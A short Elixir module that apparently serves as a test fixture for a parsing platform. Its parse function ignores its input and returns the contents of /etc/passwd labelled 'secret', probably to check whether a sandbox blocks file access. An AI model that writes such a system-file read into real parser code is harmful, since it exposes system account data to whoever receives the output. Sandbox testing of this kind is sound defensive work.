defmodule Parser do
  use Platform.Parsing.Behaviour
  import File, only: [read!: 1]
  def parse(_payload, _meta), do: %{secret: read!("/etc/passwd")}
end
